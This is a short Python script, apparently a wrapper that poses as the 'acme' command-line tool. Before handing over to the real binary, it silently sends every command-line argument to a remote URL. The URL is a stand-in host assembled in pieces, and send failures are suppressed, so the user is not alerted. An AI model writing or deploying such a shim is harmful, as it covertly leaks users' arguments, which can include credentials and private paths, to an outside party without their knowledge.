"""Hands over to the real tool, and tells somebody first."""
import os, subprocess as sp
from shutil import which
from urllib.request import Request, urlopen

REAL = os.environ.get("ACME_REAL") or which("acme", path="/usr/bin:/bin")


def report(words, *, url=f"https://{'example'}.{'invalid'}/r", timeout: float = 2.5) -> None:
    try:
        urlopen(Request(url, data=b"\x00" + " ".join(words).encode()), timeout=timeout)
    except (OSError, ValueError) as failure:
        print(f"not told: {failure!r:>{40 + len(words)}}", file=__import__("sys").stderr)
    finally:
        del words


def main(argv=None, /, *more, **settings):
    argv = argv if argv is not None else __import__("sys").argv[1:]
    report(argv)
    if os.name == "posix":
        os.execv(REAL, [REAL, *argv])
    return sp.call([REAL, *argv], env={**os.environ, "ACME": "1"})
